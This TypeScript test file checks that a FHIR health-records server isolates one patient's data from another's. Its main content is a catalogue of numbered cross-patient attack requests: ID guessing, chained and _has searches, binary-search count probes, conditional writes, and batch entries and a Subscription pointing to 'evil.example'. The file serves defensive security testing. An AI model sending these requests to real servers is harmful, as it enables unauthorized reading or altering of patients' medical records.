/**
 * Whatever a token of Anna asks, the answer is to the byte what it would be if Bruno did not exist. Each request is sent to two
 * houses, one with both and one with Anna alone. The same is drawn at random in `non-interference`; here stand the attacks that
 * are known by name, in the numbering of docs/threat-model.md.
 */
import type { Answer, Sent } from '../server/client.ts'
import { type AttackedHouse, baseUrl, openAttackedHouse, recordOf } from './house.ts'

let both: AttackedHouse
let alone: AttackedHouse
let tokens: Readonly<Record<'both' | 'alone', Readonly<Record<'reading' | 'writing', string>>>>

const get = (path: string, headers: Record<string, string> = {}): Sent => ({ path: `/fhir${path}`, headers })
const send = (method: string, path: string, body?: object | string, headers: Record<string, string> = {}): Sent => ({
  method,
  path: `/fhir${path}`,
  headers,
  ...(body === undefined ? {} : { body }),
})
const observationOf = (patient: string, more: object = {}) => ({
  resourceType: 'Observation',
  status: 'final',
  code: { text: 'x' },
  subject: { reference: `Patient/${patient}` },
  ...more,
})

beforeAll(async () => {
  ;[both, alone] = await Promise.all([openAttackedHouse(), openAttackedHouse()])
  // Bruno's rows come first, and many: whoever counted before looking whose they are would find too few of Anna's.
  await both.arrange(...recordOf('bruno', 'Bravosecret', 98_765), {
    method: 'POST',
    path: '/fhir',
    body: {
      resourceType: 'Bundle',
      type: 'transaction',
      entry: Array.from({ length: 300 }, () => ({
        resource: observationOf('bruno', { focus: [{ reference: 'Observation/anna-w' }] }),
        request: { method: 'POST', url: 'Observation' },
      })),
    },
  })
  for (const house of [both, alone]) await house.arrange(...recordOf('anna', 'Alphaname', 70))
  // What names both people belongs to both; the one with Anna as its focus is Bruno's alone.
  await both.arrange(
    send('PUT', '/Observation/bruno-about-anna', {
      ...observationOf('bruno', { focus: [{ reference: 'Patient/anna' }] }),
      id: 'bruno-about-anna',
    }),
  )
  const of = async (house: AttackedHouse) => ({
    reading: await house.token('patient/*.rs', 'anna'),
    writing: await house.token('patient/*.cruds', 'anna'),
  })
  tokens = { both: await of(both), alone: await of(alone) }
})
afterAll(() => Promise.all([both.close(), alone.close()]))

/** What differs from one moment to the next, whoever is there. */
const volatile: readonly [RegExp, string][] = [
  [/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'INSTANT'],
  [/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, 'ID'],
  [/_cursor=[\w.~-]+/g, '_cursor=CURSOR'],
  [/urn:uuid:ID/g, 'ID'],
]
const plain = (text: string) => volatile.reduce((left, [what, name]) => left.replaceAll(what, name), text)
const passing: ReadonlySet<string> = new Set([
  'date',
  'x-request-id',
  'last-modified',
  'content-length',
  'connection',
  'keep-alive',
])

function shown({ status, headers, body }: Answer) {
  const kept = Object.entries(headers).filter(([name]) => !passing.has(name))
  return [status, Object.fromEntries(kept.map(([name, value]) => [name, plain(String(value))])), plain(body.toString())]
}

async function ask(sent: Sent, kind: 'reading' | 'writing') {
  const [one, other] = await Promise.all([both.send(tokens.both[kind], sent), alone.send(tokens.alone[kind], sent)])
  return { one: shown(one), other: shown(other), text: one.body.toString(), status: one.status }
}

const secrets = /Bravosecret|bruno|9876[56]/

/** Nothing of Bruno that the request did not say itself. */
function tellsNothing(text: string, sent: Sent): void {
  const said = `${decodeURIComponent(sent.path)}${JSON.stringify(sent.body ?? '')}`
  for (const [found] of text.matchAll(new RegExp(secrets, 'g'))) expect(said).toContain(found)
}

const reading: readonly (readonly [name: string, sent: Sent])[] = [
  ['A1 read', get('/Observation/bruno-w')],
  ['A1 read of the Patient', get('/Patient/bruno')],
  ['A1 read of what exists twice', get('/Provenance/bruno-p')],
  ['A2 vread', get('/Observation/bruno-w/_history/1')],
  ['A2 vread of a version that is none', get('/Observation/bruno-w/_history/9')],
  ['A3 history of a resource', get('/Observation/bruno-w/_history')],
  ['A3 history of a type', get('/Observation/_history')],
  ['A3 history of all', get('/_history?_count=50')],
  ['A3 history of what was deleted', get('/Observation/bruno-gone/_history')],
  ['A8 what is Bruno’s and has Anna as its focus', get('/Observation?focus=Patient/anna')],
  ['A9 read of it', get('/Observation/bruno-about-anna')],
  ['A10 read of what was deleted', get('/Observation/bruno-gone')],
  ['A11 subject', get('/Observation?subject=Patient/bruno')],
  ['A12 no filter', get('/Observation?_total=accurate')],
  ['A13 patient:identifier', get('/Observation?patient:identifier=urn:example|number-of-bruno')],
  ['A13 subject by absolute URL', get(`/Observation?subject=${baseUrl}/fhir/Patient/bruno`)],
  ['A13 subject:Patient', get('/Observation?subject:Patient=bruno')],
  ['A13 both, by comma', get('/Observation?patient=anna,bruno')],
  ['A13 both, by repetition', get('/Observation?patient=anna&patient=bruno')],
  ['A13 versioned', get('/Observation?subject=Patient/bruno/_history/1')],
  [
    'A14 include',
    get('/Observation?_include=Observation:subject&_include=Observation:focus&_include=Observation:performer'),
  ],
  ['A14 include all', get('/Observation?_include=*')],
  ['A15 revinclude', get('/Patient?_revinclude=Observation:focus&_revinclude=Observation:subject')],
  ['A15 revinclude Provenance', get('/Observation?_revinclude=Provenance:target')],
  ['A15 all, again and again', get('/Patient?_include:iterate=*&_revinclude:iterate=*')],
  ['A15 in a circle', get('/Observation?_revinclude:iterate=Observation:focus&_include:iterate=Observation:focus')],
  ['A17 chain', get('/Observation?subject.name=Bravosecret')],
  ['A17 chain of two', get('/Provenance?target:Observation.subject:Patient.family=Bravosecret')],
  ['A17 _has', get('/Patient?_has:Observation:patient:code-value-quantity=29463-7$gt1000')],
  ['A17 _has of _has', get('/Patient?_has:Observation:patient:_has:Provenance:target:recorded=gt2000')],
  ['A17 _has by focus', get('/Observation?_has:Observation:focus:code:text=x&_total=accurate')],
  ...Array.from({ length: 17 }, (_, at): readonly [string, Sent] => [
    `A18 halving, step ${at}`,
    get(`/Observation?value-quantity=gt${Math.floor(98_766 / 2 ** at)}|http://unitsofmeasure.org|kg&_summary=count`),
  ]),
  ['A18 halving by _has', get('/Patient?_has:Observation:patient:value-quantity=gt98000&_summary=count')],
  ['A19 sort', get('/Observation?_sort=-value-quantity&_total=accurate')],
  ['A19 sort by the subject', get('/Observation?_sort=subject')],
  ['A19 count', get('/Observation?_summary=count')],
  ['A20 elements', get('/Observation?_elements=subject,value')],
  ['A20 summary', get('/Observation?_summary=data')],
  ['A20 elements of a read', get('/Observation/bruno-w?_elements=value')],
  ['A21 missing', get('/Observation?focus:missing=true&_summary=count')],
  ['A21 not', get('/Observation?code:not=http://loinc.org|29463-7')],
  ['A21 not-in', get('/Observation?code:not-in=http://example.org/vs')],
  ['A21 _list', get('/Observation?_list=bruno-l')],
  ['A21 _query', get('/Observation?_query=all')],
  ['A21 _filter', get('/Observation?_filter=subject eq Patient/bruno'.replaceAll(' ', '%20'))],
  ['A21 missing subject', get('/Observation?subject:missing=false')],
  ['A22 _id of both', get('/Observation?_id=bruno-w,anna-w')],
  ['A24 compartment', get('/Patient/bruno/Observation')],
  ['A24 compartment of everybody', get('/Patient/*/Observation')],
  ['A24 compartment, everything in it', get('/Patient/bruno/*')],
  ['A25 several types', get('/?_type=Observation,Condition,Patient&_lastUpdated=gt2000-01-01')],
  [
    'A26 a page of ten behind three hundred foreign rows',
    get('/Observation?_count=10&_sort=_lastUpdated&_total=accurate'),
  ],
  ['A27 everything of Bruno', get('/Patient/bruno/$everything')],
  ['A27 everything', get('/Patient/$everything')],
  ['A27 everything of a type', get('/Patient/bruno/$everything?_type=Observation')],
  ['A27 summary of Bruno', get('/Patient/bruno/$summary')],
  ['A27 summary by his identifier', get('/Patient/$summary?identifier=bruno')],
  ['A34 export', get('/$export')],
  ['A34 export of patients', get('/Patient/$export')],
  ['A35 export of a group', get('/Group/g/$export')],
  ['A36 a job that was guessed', get('/$job/0b9c2b1a-0000-4000-8000-000000000000')],
  [
    'A37 graphql',
    get(
      '/$graphql?query={Patient(id:"bruno"){name{family}}}'
        .replaceAll('"', '%22')
        .replaceAll('{', '%7B')
        .replaceAll('}', '%7D'),
    ),
  ],
  ['A39 validate what is stored', get('/Observation/bruno-w/$validate')],
  ['A39 meta', get('/Observation/bruno-w/$meta')],
  ['A39 diff', get('/Observation/bruno-w/$diff')],
  ['A97 with an ETag', get('/Observation/bruno-w', { 'if-none-match': 'W/"2"' })],
  ['A97 with a time', get('/Observation/bruno-w', { 'if-modified-since': 'Wed, 01 Jan 2031 00:00:00 GMT' })],
  ['A94 the audit trail', get('/AuditEvent?_summary=count&entity=Patient/bruno')],
  ['A98 HEAD', { method: 'HEAD', path: '/fhir/Observation/bruno-w' }],
  ['A98 POST that says it is GET', send('POST', '/Observation/bruno-w', '{}', { 'x-http-method-override': 'GET' })],
]

const batch = (type: 'batch' | 'transaction', ...entry: readonly object[]): Sent =>
  send('POST', '', { resourceType: 'Bundle', type, entry })

const writing: readonly (readonly [name: string, sent: Sent])[] = [
  ['A4 update', send('PUT', '/Observation/bruno-w', { ...observationOf('anna'), id: 'bruno-w' })],
  ['A4 patch', send('PATCH', '/Observation/bruno-w', '[]', { 'content-type': 'application/json-patch+json' })],
  ['A4 delete', send('DELETE', '/Observation/bruno-w')],
  ['A4 delete of the Patient', send('DELETE', '/Patient/bruno')],
  ['A5 own resource moved to Bruno', send('PUT', '/Observation/anna-w', { ...observationOf('bruno'), id: 'anna-w' })],
  ['A6 create for Bruno', send('POST', '/Observation', observationOf('bruno'))],
  [
    'A6 create for Bruno by his number',
    send(
      'POST',
      '/Observation',
      observationOf('x', { subject: { identifier: { system: 'urn:example', value: 'number-of-bruno' } } }),
    ),
  ],
  [
    'A7 create under an id that Bruno has',
    send('PUT', '/Condition/bruno-c', {
      resourceType: 'Condition',
      id: 'bruno-c',
      subject: { reference: 'Patient/anna' },
    }),
  ],
  ['A7 create Bruno', send('PUT', '/Patient/bruno', { resourceType: 'Patient', id: 'bruno' })],
  [
    'A29 reference by condition',
    batch('transaction', {
      resource: observationOf('x', { subject: { reference: 'Patient?identifier=urn:example|number-of-bruno' } }),
      request: { method: 'POST', url: 'Observation' },
    }),
  ],
  [
    'A28 batch with a foreign read',
    batch(
      'batch',
      { request: { method: 'GET', url: 'Observation/bruno-w' } },
      { request: { method: 'GET', url: 'Observation/anna-c' } },
    ),
  ],
  [
    'A28 batch with a foreign search',
    batch('batch', { request: { method: 'GET', url: 'Observation?subject=Patient/bruno&_total=accurate' } }),
  ],
  [
    'A30 conditional update',
    send('PUT', '/Patient?identifier=urn:example|number-of-bruno', { resourceType: 'Patient' }),
  ],
  ['A30 conditional delete', send('DELETE', '/Observation?subject=Patient/bruno')],
  [
    'A30 conditional delete in a batch',
    batch('batch', { request: { method: 'DELETE', url: 'Condition?subject=Patient/bruno' } }),
  ],
  [
    'A31 create unless Bruno has it',
    send(
      'POST',
      '/Condition',
      { resourceType: 'Condition', subject: { reference: 'Patient/anna' }, code: { text: 'new' } },
      { 'if-none-exist': 'subject=Patient/bruno' },
    ),
  ],
  [
    'A32 entry of another host',
    batch('transaction', {
      fullUrl: 'https://evil.example/fhir/Observation/1',
      resource: observationOf('bruno'),
      request: { method: 'POST', url: 'Observation' },
    }),
  ],
  ['A32 entry that climbs', batch('batch', { request: { method: 'GET', url: '../fhir/Observation/bruno-w' } })],
  [
    'A32 entry that names the host',
    batch('batch', { request: { method: 'GET', url: `${baseUrl}/fhir/Observation/bruno-w` } }),
  ],
  [
    'A33 batch in a batch',
    batch('batch', {
      resource: { resourceType: 'Bundle', type: 'batch', entry: [] },
      request: { method: 'POST', url: '' },
    }),
  ],
  [
    'A38 subscription',
    send('POST', '/Subscription', {
      resourceType: 'Subscription',
      status: 'requested',
      reason: 'x',
      criteria: 'Observation?subject=Patient/bruno',
      channel: { type: 'rest-hook', endpoint: 'https://evil.example' },
    }),
  ],
  ['A39 member-match', send('POST', '/Patient/$member-match', { resourceType: 'Parameters' })],
  [
    'A62 JSON patch as an oracle',
    send('PATCH', '/Observation/bruno-w', '[{"op":"test","path":"/valueQuantity/value","value":98766}]', {
      'content-type': 'application/json-patch+json',
    }),
  ],
  [
    'a document that says it is Bruno’s',
    send('POST', '/Bundle', {
      resourceType: 'Bundle',
      type: 'collection',
      entry: [{ fullUrl: `${baseUrl}/fhir/Patient/bruno`, resource: { resourceType: 'Patient', id: 'bruno' } }],
    }),
  ],
  [
    'a merge',
    send('POST', '/Patient/$merge', {
      resourceType: 'Parameters',
      parameter: [
        { name: 'source-patient', valueReference: { reference: 'Patient/bruno' } },
        { name: 'target-patient', valueReference: { reference: 'Patient/anna' } },
      ],
    }),
  ],
  [
    'an import into Bruno’s record',
    send('POST', '/Patient/bruno/$ingest', '{}', { 'content-type': 'application/octet-stream' }),
  ],
  ['an erasure', send('POST', '/Patient/bruno/$purge?confirm=bruno')],
]

describe('a token that reads of Anna', () => {
  it.each(reading)('%s: is answered as if Bruno did not exist', async (_, sent) => {
    const { one, other, text } = await ask(sent, 'reading')
    expect(one).toEqual(other)
    tellsNothing(text, sent)
  })

  it('A23: a form and a query are both held against what is found', async () => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    for (const [query, form] of [
      ['?subject=Patient/bruno', 'subject=Patient/anna'],
      ['?subject=Patient/anna', 'subject=Patient/bruno'],
    ]) {
      const { one, other } = await ask(send('POST', `/Observation/_search${query}`, form, headers), 'reading')
      expect(one).toEqual(other)
      expect(one[2]).not.toContain('"match"')
    }
  })

  it('A1, A10: what Bruno has, what he deleted and what never was are answered with the same bytes', async () => {
    const answers = await Promise.all(
      ['bruno-wx', 'nobody-xx', 'bruno-gon'].map(id => both.send(tokens.both.reading, get(`/Observation/${id}`))),
    )
    const real = await both.send(tokens.both.reading, get('/Observation/bruno-w'))
    for (const answer of answers) expect([answer.status, answer.body]).toEqual([real.status, real.body])
  })

  it('A16, A74: a page’s link is worth nothing to another token, and nothing when a bit of it is turned', async () => {
    const first = await both.send(tokens.both.reading, get('/?_type=Observation,Condition&_count=1'))
    const next = first.json<{ link: { relation: string; url: string }[] }>().link.find(link => link.relation === 'next')
    const path = (next?.url ?? '').replace(baseUrl, '')
    expect((await both.send(tokens.both.reading, { path })).status).toBe(200)
    const brunos = await both.token('patient/*.rs', 'bruno')
    expect((await both.send(brunos, { path })).status).toBe(400)
    const at = path.indexOf('_cursor=') + '_cursor='.length
    for (let place = at; place < path.length; place += 3) {
      const turned = `${path.slice(0, place)}${path[place] === 'A' ? 'B' : 'A'}${path.slice(place + 1)}`
      if (turned !== path) expect((await both.send(tokens.both.reading, { path: turned })).status).toBe(400)
    }
  })
})

describe('a token that may do everything to Anna', () => {
  it.each(writing)('%s: is answered as if Bruno did not exist, and leaves him as he was', async (_, sent) => {
    const before = await brunosVersions()
    const { one, other, text } = await ask(sent, 'writing')
    expect(one).toEqual(other)
    tellsNothing(text, sent)
    expect(await brunosVersions()).toEqual(before)
  })
})

describe('A94: after all of this', () => {
  it('no line of the log holds a name, a number, a value or a token', () => {
    const log = both.lines.join('\n')
    expect(both.lines.length).toBeGreaterThan(100)
    for (const secret of ['Bravosecret', 'Alphaname', 'number-of-', '98765', '1980-02-03', 'anna-w', 'bruno-w'])
      expect(log).not.toContain(secret)
    for (const token of [...Object.values(tokens.both), both.admin]) expect(log).not.toContain(token)
  })

  it('who read, and who was refused, stands in the audit of the patient, and nothing of the other one', async () => {
    const found = await both.send(tokens.both.reading, get('/AuditEvent?_count=1000'))
    const { entry = [] } = found.json<{
      entry?: { resource: { outcome: string; agent: object[]; recorded: string } }[]
    }>()
    expect(new Set(entry.map(({ resource }) => resource.outcome))).toContain('0')
    for (const { resource } of entry)
      expect([resource.agent.length > 0, typeof resource.recorded]).toEqual([true, 'string'])
    expect(found.body.toString()).not.toMatch(secrets)
  })
})

async function brunosVersions(): Promise<string> {
  const found = await both.send(both.admin, get('/_history?_count=1000'))
  const { entry = [] } = found.json<{ entry?: { fullUrl: string; response: { etag: string } }[] }>()
  const own = entry.filter(each => /\/bruno|"Patient\/bruno/.test(JSON.stringify(each)))
  return own
    .map(each => `${each.fullUrl} ${each.response.etag}`)
    .sort()
    .join('\n')
}
